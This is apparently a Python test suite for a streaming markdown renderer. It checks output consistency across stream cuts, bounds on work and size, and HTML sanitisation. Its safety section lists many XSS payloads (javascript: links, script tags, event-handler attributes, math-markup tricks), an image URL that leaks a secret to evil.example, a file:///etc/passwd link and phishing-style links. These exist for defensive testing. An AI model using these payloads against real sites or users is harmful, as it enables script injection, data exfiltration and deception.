"""Streamed answers end as the same safe HTML for any cuts, with work linear in their length."""

import html as html_text
import json
import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from tests.examples import examples
from tests.fuzz.screen import MARKUP, Screen, streamed
from tests.hand_clock import HandClock
from wireside_ui.markdown.dialect import Markup, MarkupLimits
from wireside_ui.markdown.highlighting import HighlightBudget, code_block, highlight
from wireside_ui.markdown.incremental import LOOP_CHARS, BlockStream, render
from wireside_ui.markdown.unfinished import close_open_marks


def cut(text: str, cuts: list[int]) -> list[str]:
    edges = sorted({0, len(text), *(at % (len(text) + 1) for at in cuts)})
    return [text[a:b] for a, b in zip(edges, edges[1:], strict=False)]


# each nearly equals another one, or becomes one by its successor
PIECES = st.sampled_from(
    """- a;-;* b;+ p;1. x;2. y;10) z;1.;  - n;    code;para;**bold**;**;`;`c`;```;```py;~~~;> q;>;
# h;#;===;---;$$;\\[;\\];$x$;[a](http://x.y);[a];[a]: http://e.x;[^1];[^1]: n;![i](http://h/i.png);
<b>;&amp;é😀;\\;- [ ] t;_i_;***;\\begin{align};\\end{align};
http://a.bc/d;|""".replace(";\n", ";").split(";")
    + ["\n", "\n\n", "\n\n\n", " ", "\t", "   ", "\r\n", "\r"]
    + ["\u202e", "\x00", "\x0b", "\u2028", "\u200b", "\ufe0f", "\U0001f3f4\U000e0067", "\U000e0062"]
    + ["|a|b|\n|-|-|\n", "|a|b|", "|1|2|", "x\n", "\n- ", "\n   "]
    + ["<br>", "<br/>", "<b>", "</b>", "H<sub>2</sub>O", "<kbd>", "</kbd>", "<i", "</", "<mark>"]
    + ["<details>", "</details>", "<details>\n", "\n</details>\n", "<details open>\n"]
    + ["<summary>", "</summary>", "<summary>s</summary>", "vector<int>", "<channel>"]
    + ["```markdown\n", "```md\n", "\n```py\n", "\n```\n", "````md\n", "~~~md\n", "\n~~~js\n"]
    + ["``` x`\n"]
    + ["语**「", "」**", "**“", "”**는", "~a~", "~", "5~10", "~~（", "）~~", "_「", "」_"]
    + ["www.a.bc", "a@b.cd", "https://a.bc/d了解", "https://a.bc/（", "mailto:a@b.cd", "。", "،"]
)


@given(
    parts=st.lists(PIECES, max_size=16),
    cuts=st.lists(st.integers(0, 400), max_size=60),
    every=st.integers(1, 3),
)
@example(parts=["- x\n# a|b\n|-|-|\n"], cuts=list(range(20)), every=1)
@example(parts=["```py|a\n", "|-|-|\n", "b"], cuts=list(range(20)), every=1)
@example(parts=["q\n\n", "-\n", "1.\n", "1. 1. "], cuts=list(range(20)), every=1)
@example(parts=["x\n", "$$", "\n\n", "y"], cuts=list(range(20)), every=1)
@example(parts=["  ~~~\n", "\t\n", "   x"], cuts=list(range(20)), every=1)
@example(parts=["$$\nx\n", "> y\n", "$$"], cuts=list(range(20)), every=1)
@example(parts=["|a|\n|-|\n|b|\n", "$$\nc\n$$"], cuts=list(range(30)), every=1)
@example(parts=["|a|b|\n|-|-|\n", "$$a|b\nc$$"], cuts=list(range(30)), every=1)
@example(
    parts=["``` x`\n", "\n", "<details>\n", "x", "\n</details>\n"], cuts=list(range(40)), every=1
)
@example(
    parts=["```md\n", "```py\n", "```\n", "```\n", "<details>\n", "x", "\n</details>\n"],
    cuts=list(range(50)),
    every=1,
)
@settings(max_examples=examples(400), deadline=None)
def test_cuts_and_flushes_do_not_change_the_result(
    parts: list[str], cuts: list[int], every: int
) -> None:
    text = "".join(parts)
    assert streamed(cut(text, cuts), every) == render(text, MARKUP)


@given(text=st.text(alphabet="ab *_`~[]()!#>-+1.|$\\\n\t<&:h/", max_size=80))
@settings(max_examples=examples(300), deadline=None)
def test_one_character_at_a_time_gives_the_same(text: str) -> None:
    assert streamed(list(text)) == render(text, MARKUP)


@given(parts=st.lists(PIECES, max_size=12), at=st.integers(0, 60))
@settings(max_examples=examples(150), deadline=None)
def test_a_restart_shows_what_was_shown(parts: list[str], at: int) -> None:
    stream, screen, fresh = BlockStream(MARKUP), Screen(), Screen()
    for part in parts[:at]:
        stream.feed(part)
        screen.apply(stream.flush())
    fresh.apply(stream.restart())
    for part in parts[at:]:
        stream.feed(part)
        fresh.apply(stream.flush())
    fresh.apply(stream.flush(final=True))
    assert fresh.html == render("".join(parts), MARKUP)


@pytest.mark.parametrize(
    ("half", "shown"),
    [
        ("a **b", "a **b**"),
        ("a **", "a "),
        ("a *b **c", "a *b **c***"),
        ("a `co", "a `co`"),
        ("a ``c` d", "a ``c` d``"),
        ("see [the docs](http://exa", "see the docs"),
        ("see [the docs]", "see the docs"),
        ("see [the", "see the"),
        ("![alt](http://exa", ""),
        ("2 * 3", "2 * 3"),
        ("snake_case and 2*3", "snake_case and 2*3"),
        (r"then \(x^2", "then "),
        ("**done** and `done`", "**done** and `done`"),
    ],
)
def test_open_marks_are_closed(half: str, shown: str) -> None:
    assert close_open_marks(half) == shown


@pytest.mark.parametrize(
    "text",
    [
        "Some **bold words** here.",
        "Look at `some code` there.",
        "See [the docs](https://docs.example) now.",
    ],
)
def test_half_written_marks_never_show(text: str) -> None:
    """Letters on the screen stay, and no mark is visible."""
    stream, screen, before = BlockStream(MARKUP), Screen(), ""
    for letter in text:
        stream.feed(letter)
        screen.apply(stream.flush())
        shown = html_text.unescape(re.sub(r"<[^>]+>", "", screen.html)).rstrip()
        assert shown.startswith(before)
        assert not set(shown) & set("*`[]")
        before = shown


@pytest.mark.parametrize("text", ["0 1 2 3", "3.14159", "12:30", "1 000 000"])
def test_numbers_are_shown_as_they_come(text: str) -> None:
    stream = BlockStream(MARKUP)
    stream.feed(text + " ")
    assert text[:4] in str(stream.flush(final=False))


def test_settled_items_are_sent_once() -> None:
    stream = BlockStream(MARKUP)
    stream.feed("- first\n- second\n- thi")
    assert stream.flush()[0] == ["o", '<ul dir="auto"><li>first</li><li>second</li></ul>']
    stream.feed("rd\n- fourth")
    assert stream.flush() == [["f", 7, "rd</li>"], ["t", 0, "<li>fourth</li>"]]


def test_an_open_code_block_only_grows() -> None:
    stream = BlockStream(MARKUP)
    stream.feed("```py\nx = 1\ny")
    assert stream.flush() == [["c", "py", "x = 1\ny"]]
    stream.feed(" = 2\n``")
    assert stream.flush() == [["a", " = 2\n"]]
    stream.feed("`\nafter")
    assert stream.flush() == [
        ["f", 0, code_block("py", highlight("x = 1\ny = 2\n", "py") or "")],
        ["t", 0, "<p>after</p>"],
    ]


SENTENCE = "Lorem ipsum dolor **sit** amet, `consectetur` elit. "
LONG = {
    "list": "".join(f"- item {i} with **bold** words\n" for i in range(2_000)),
    "table": "| a | b | c |\n|--|--|--|\n"
    + "".join(f"| {i} | foo bar | `x{i}` |\n" for i in range(1_000)),
    "paragraph": SENTENCE * 2_000,
    "quote": f"> {SENTENCE}\n" * 500,
    "code": "```python\n" + "x = foo(1, 'abc')  # hi\n" * 1_900 + "```\n",
    "code in an item": "1. a\n   ```py\n" + "   x = foo(1, 'abc')  # hi\n" * 500 + "   ```\n",
    "nested list": "- a\n" + f"  - {SENTENCE}\n" * 500,
    "definitions": "[a]: x\n" * 2_000,
    "newlines": "\n" * 1_000_000,
    "blank lines": " \n" * 100_000,
    "wide table": "|a" * 200 + "|\n" + "|-" * 200 + "|\n" + "|\n" * 50,
}


@pytest.mark.slow
@pytest.mark.parametrize("kind", LONG)
def test_work_and_bytes_are_in_proportion_to_the_text(kind: str) -> None:
    text, stream, sent = LONG[kind], BlockStream(MARKUP), 0
    step = 10 if len(text) < 200_000 else 1_000
    for at in range(0, len(text), step):
        stream.feed(text[at : at + step])
        sent += len(json.dumps(stream.flush()))
    sent += len(json.dumps(stream.flush(final=True)))
    assert stream.parsed_chars <= (15 if kind == "paragraph" else 66) * len(text)
    assert sent <= 10 * len(text) + len(render(text, MARKUP))


@pytest.mark.slow
@pytest.mark.parametrize(
    "unit",
    [
        ">",
        "[",
        "![",
        "[a](",
        "*",
        "*a ",
        "**a *b ",
        "`",
        "- ",
        "<",
        "$a ",
        r"\(",
        "_a",
        "~~a ",
        "|",
        "\\",
        "#",
        "&amp;",
        "http://a.b/(",
        "<b>",
        "<details>\n",
        "<details>",
        "</b>",
        "[^",
        "[^1]: ",
        "```md\n",
        "**「",
        "~a ",
        "a@b.",
        "www.",
        "https://。",
        "> - ",
    ],
)
def test_deep_or_endless_nesting_ends(unit: str) -> None:
    """Bounded by construction; the time limit of the test is the assertion."""
    text = unit * (20_000 // len(unit))
    assert len(render(text, MARKUP)) < 60 * len(text)
    assert _Tags(render(text, MARKUP)).depth < 110


def test_the_end_of_a_very_long_piece_is_shown_as_it_is() -> None:
    stream, screen = BlockStream(MARKUP), Screen()
    stream.feed("word " * 4_000)
    screen.apply(stream.flush())
    parsed = stream.parsed_chars
    for word in ("and **bold** ", "<b>words</b>"):
        stream.feed(word)
        assert stream.work() <= len(word)
        ops = stream.flush()
        assert ops == [["p", word]]
        screen.apply(ops)
    assert "and **bold** &lt;b&gt;words" in screen.html
    assert stream.parsed_chars == parsed
    stream.feed("\n\nnext")
    screen.apply(stream.flush(final=True))
    assert screen.html == render(stream.text, MARKUP)
    assert "<strong>bold</strong>" in screen.html


@pytest.mark.parametrize(
    "text",
    ["- a\n- " + "b " * 20_000, "> " + "q " * 20_000, "<b>" * 9_000, "|a|\n|-|\n|" + "c " * 20_000],
)
def test_of_any_long_piece_the_end_is_shown(text: str) -> None:
    stream, screen = BlockStream(MARKUP), Screen()
    for at in range(0, len(text), 500):
        stream.feed(text[at : at + 500])
        screen.apply(stream.flush())
    assert stream.parsed_chars < 12 * len(text)
    screen.apply(stream.flush(final=True))
    assert screen.html == render(text, MARKUP)


def test_how_much_work_the_next_flush_is() -> None:
    stream = BlockStream(MARKUP)
    stream.feed("a" * 100)
    assert stream.work() == 100
    stream.feed("a" * 5_000)
    assert stream.work() > LOOP_CHARS
    stream.flush()
    assert stream.work() == 0

    code = BlockStream(MARKUP)
    code.feed("```\n" + "x = 1\n" * 5_000)
    code.flush()
    code.feed("y = 2\n")
    assert code.work() < 100  # it only grows
    code.feed("```\n")
    assert code.work() > 30_000  # it is highlighted

    references = BlockStream(MARKUP)
    references.feed("[a]: https://a.example\n\n" + "[a]\n\n" * 1_000)
    references.flush()
    assert references.work(final=True) > LOOP_CHARS  # everything is rendered again


def test_the_first_code_of_a_language_is_much_work() -> None:
    """Its patterns are compiled, which takes tens of milliseconds."""
    label = "verilog"  # which no other test uses
    work = []
    for _ in range(2):
        stream = BlockStream(MARKUP)
        stream.feed(f"```{label}\nx = 1\n```\n")
        work.append(stream.work())
        stream.flush()
    assert work[0] > LOOP_CHARS
    assert work[1] < 100


def test_a_short_label_makes_no_endless_page() -> None:
    text = f"[a]: https://a.example/{'x' * 1_000}\n\n" + "[a]" * 5_000
    assert len(render(text, MARKUP)) < 1_000_000


def test_a_wide_table_of_short_rows_stays_small() -> None:
    text = "|a" * 200 + "|\n" + "|-" * 200 + "|\n" + "|\n" * 3_000
    assert len(render(text, MARKUP)) < 40 * len(text)


def test_an_answer_of_5000_tokens_is_small() -> None:
    section = (
        "## A section\n\n"
        + SENTENCE * 4
        + "\n\n```python\n"
        + "def f(x: int = 1) -> dict[str, int]:\n    return {'a': x + 1}\n" * 8
        + "```\n\n"
        "- one **point** here\n- two `points` there\n- three\n\n"
        "| name | n |\n| --- | ---: |\n| a | 1 |\n| b | 2 |\n\n"
    )

    def sent(text: str) -> int:
        stream, size = BlockStream(MARKUP), 0
        for at in range(0, len(text), 20):  # 5 tokens a flush: 100 tokens/s at 20 flushes/s
            stream.feed(text[at : at + 20])
            size += len(json.dumps(stream.flush())) + 120  # and the frame around each
        return size + len(json.dumps(stream.flush(final=True)))

    text = (section * 40)[:20_000]
    assert sent(text) < 350_000
    assert sent((section * 40)[:40_000]) < 2.1 * sent(text)


# Safety

_SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html,<script>x</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "//evil.example/x",
    "/chat/logout",
    "#x",
    "blob:x",
    "ws://evil.example",
    "ftp://evil.example",
    " javascript:alert(1)",
    "javascript&colon;alert(1)",
]
_TAGS = [
    "script",
    "style",
    "iframe",
    "form",
    "input",
    "button",
    "svg",
    "math",
    "object",
    "embed",
    "base",
    "link",
    "meta",
    "video",
    "audio",
    "template",
    "noscript",
    "textarea",
    "select",
    "details",
    "dialog",
    "title",
    "xmp",
    "plaintext",
    "marquee",
    "frameset",
    "portal",
    "slot",
    "img",
    "body",
]
HOSTILE = [
    *(f"[x]({scheme})" for scheme in _SCHEMES),
    *(f"<{scheme}>" for scheme in _SCHEMES),
    *(f"![x]({scheme})" for scheme in _SCHEMES),
    *(f"[x][r]\n\n[r]: {scheme}" for scheme in _SCHEMES),
    *(
        f"<{tag} src=https://evil.example/x onload=alert(1) onerror=alert(1) style=position:fixed>"
        for tag in _TAGS
    ),
    *(f"a\n\n<{tag.upper()}/onclick=alert(1)>\nx\n</{tag}>" for tag in _TAGS),
    '```"><script>alert(1)</script>\nx\n```',
    "```mermaid\n</code></pre><script>alert(1)</script>\n```",
    '~~~ a" onmouseover="alert(1)\nx\n~~~',
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    '[x](https://a.example/"onmouseover="alert(1))',
    '[x](https://a.example "t\\" onmouseover=\\"alert(1)")',
    '![a" onerror="alert(1)](https://evil.example/x.png)',
    "![x](https://evil.example/leak?q=secret)",
    "![x](http://images.example/plain-http.png)",
    "![x](https://images.example.evil.example/x.png)",
    "![x](https://images.example@evil.example/x.png)",
    "![x][r]\n\n[r]: https://evil.example/leak",
    "[![x](https://evil.example/in-link.png)](https://a.example)",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$$\href{javascript:alert(1)}{x}$$",
    "\\[\n\\text{</mtext><script>alert(1)</script>}\n\\]",
    r"$\style{position:fixed}{x}$",
    r"\(\class{ws-code}{x}\)",
    r"$\url{javascript:alert(1)}$",
    "| a |\n| - |\n| <script>alert(1)</script> |",
    "|a|\n|:-:|\n|<img src=x onerror=alert(1)>|",
    "- [ ] <input type=checkbox onclick=alert(1)>",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "x[^<script>]\n\n[^<script>]: y",
    "# <script>alert(1)</script>",
    "> <iframe src=https://evil.example>",
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<scr\x00ipt>alert(1)</script>",
    "<scr\u202eipt>alert(1)</script>",
    "<\ud800script>alert(1)</script>",
    "https://evil.example/<script>alert(1)</script>",
    'https://evil.example/"onmouseover="alert(1)',
    '<https://evil.example/"onmouseover=alert(1)>',
    "<a href=javascript:alert(1) target=_self id=x class=ws-prose-copy data-action=stop>x</a>",
    '<span data-action="stop" class="ws-turn-icon-button">x</span>',
]
_ALLOWED = re.compile(
    "a|b|blockquote|br|cite|code|del|details|dfn|div|em|h[2-6]|hr|i|img|ins|kbd|li|ol|p|pre|q|rp|rt"
    "|ruby|s|samp|mark|small|span|strong|sub|summary|sup|table|tbody|td|th|thead|tr|u|ul|var|wbr"
)


class _Tags(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.depth = self._open = 0
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))
        self._open += tag not in ("br", "hr", "img", "wbr")
        self.depth = max(self.depth, self._open)

    def handle_endtag(self, tag: str) -> None:
        self._open -= 1


def assert_harmless(html: str) -> None:
    for tag, attributes in _Tags(html).found:
        assert _ALLOWED.fullmatch(tag), html
        for name, value in attributes.items():
            assert not name.startswith("on"), html
            assert name not in (
                "style",
                "id",
                "data-action",
                "formaction",
                "srcdoc",
                "srcset",
                "xlink:href",
            ), html
            if name == "href":
                assert tag == "a" and re.match(r"https?://|mailto:", value), html
            if name == "src":
                assert tag == "img" and value.startswith("https://images.example/"), html
        if tag == "a":
            assert attributes["target"] == "_blank" and "noopener" in attributes["rel"], html


def test_the_corpus_is_large() -> None:
    assert len(set(HOSTILE)) >= 100


@pytest.mark.slow
@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text)[:40])
def test_hostile_text_is_harmless_at_every_moment(text: str) -> None:
    assert_harmless(render(text, MARKUP))
    stream, screen = BlockStream(MARKUP), Screen()
    for letter in text:
        stream.feed(letter)
        screen.apply(stream.flush())
        assert_harmless(screen.html)


@given(parts=st.lists(st.one_of(st.sampled_from(HOSTILE), PIECES), min_size=2, max_size=6))
@settings(max_examples=examples(150), deadline=None)
def test_hostile_text_among_other_text_is_harmless(parts: list[str]) -> None:
    assert_harmless(render("".join(parts), MARKUP))


def test_images_of_allowed_hosts_are_shown_and_others_are_cards() -> None:
    html = render("![a](https://images.example/x.png) ![b](https://evil.example/y.png)", MARKUP)
    assert '<img class="ws-img" src="https://images.example/x.png" alt="a"' in html
    assert 'class="ws-image" href="https://evil.example/y.png"' in html
    assert "evil.example</span>" in html


def test_a_link_that_names_another_host_shows_the_true_one() -> None:
    assert "(evil.example)" in render("[bank.example](https://evil.example/login)", MARKUP)
    assert "class=" not in render("[docs.example](https://docs.example/a)", MARKUP)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[here](https://bank.example@evil.example/x 'https://bank.example')", "here</a></p>"),
        ("https://bank.example@evil.example/x", '/x</a> <span class="ws-host">(evil.example)'),
        ("[bank.example](https://u:p@evil.example/x)", "bank.example</a> <span class="),
        ("[at bank.example](https://evil.example/x)", '</a> <span class="ws-host">(evil.example)'),
        ("[**bank**.example](https://evil.example/x)", '</a> <span class="ws-host">(evil.example)'),
        ("![x](https://bank.example@evil.example/x)", '<span class="ws-host">evil.example</span>'),
    ],
)
def test_a_link_leads_where_its_title_says(text: str, shown: str) -> None:
    html = render(text, MARKUP)
    (link,) = (attributes for tag, attributes in _Tags(html).found if tag == "a")
    assert link["href"] == "https://evil.example/x"
    assert link["title"].partition("\n")[0] == link["href"]
    assert shown in html


def test_letters_of_another_script_are_shown_as_they_are_sent() -> None:
    html = render("https://g\u043e\u043egle.example/a", MARKUP)
    assert 'href="https://xn--ggle-55da.example/a"' in html
    assert "(xn--ggle-55da.example)" in html


def test_an_address_that_is_not_certain_is_no_link() -> None:
    assert "<a" not in render(
        "[x](http://2130706433/) http://0x7f.1/a [y](https:evil.example)", MARKUP
    )


def test_hidden_letters_are_seen() -> None:
    hidden = "".join(chr(0xE0000 + ord(char)) for char in "abc")
    assert render(f"x{hidden}", MARKUP) == "<p>x\ufffd\ufffd\ufffd</p>"


@pytest.mark.parametrize("text", ["\u202eabc", "a\u2066b\u2069", "\u202d"])
def test_direction_overrides_are_taken_out(text: str) -> None:
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", render(text, MARKUP))


def test_huge_code_is_not_highlighted() -> None:
    assert highlight("x = 1\n" * 100, "python")
    assert highlight("x = 1\n" * 3_000, "python") is None
    assert highlight("x" * 70_000, "python") is None
    assert highlight("x = 1", "no-such-language") is None


@pytest.mark.parametrize("marks", ["`", "~", "`~", "``` ", "\n```"])
def test_what_a_flush_takes_is_known_at_once(marks: str) -> None:
    """With work quadratic in the number of marks, it would block the event loop for hours."""
    stream = BlockStream(MARKUP)
    stream.feed(marks * (400_000 // len(marks)))
    assert stream.work() >= 400_000


def test_code_that_takes_too_long_is_not_highlighted() -> None:
    code = "x = 1\n" * 100  # about 500 tokens
    assert highlight(code, "python", HighlightBudget(clock=HandClock(0.0, step_s=1e-5)))
    clock = HandClock(0.0, step_s=1e-2)
    assert highlight(code, "python", HighlightBudget(clock=clock)) is None
    assert clock.now < 0.1


def test_the_code_of_a_text_shares_what_it_may_take() -> None:
    """Many small blocks take no longer than a large one; those before a slow one are coloured."""
    allowance = HighlightBudget(clock=HandClock(0.0, step_s=1e-3))
    shown = [highlight("x = 1\n", "python", allowance) for _ in range(100)]
    assert shown[0] and shown[-1] is None


def test_a_text_made_to_stall_the_highlighter_is_shown_without() -> None:
    """Each line starts a match that scans the rest: it took seconds per block, many per answer."""
    code = "a\n" * 1_990 + "return;\n"
    fence = f"```c#\n{code}```\n\n"
    assert render(fence * 5, Markup()) == code_block("c#", code) * 5
    assert streamed([fence] * 5, markup=Markup()) == code_block("c#", code) * 5


def test_of_a_very_long_text_the_rest_is_shown_as_it_is() -> None:
    markup = Markup(limits=MarkupLimits(max_chars=20))
    html = render("**one**\n\n**two**\n\n**three <b>**\x00\n", markup)
    assert html.startswith("<p><strong>one</strong></p><p><strong>two</strong></p>")
    assert html.endswith(code_block("", "**three &lt;b&gt;**\ufffd\n"))
    assert render("x" * 50, markup) == f"<p>{'x' * 20}</p>" + code_block("", "x" * 30)


def test_a_very_long_answer_is_not_made_again_at_its_end() -> None:
    answer = "[a]\n\nwords\n\n[a]: https://a.example\n"
    assert "href" in streamed([answer[:12], answer[12:]])
    markup = Markup(limits=MarkupLimits(max_whole_chars=len(answer) - 1))
    assert "href" not in streamed([answer[:12], answer[12:]], markup=markup)
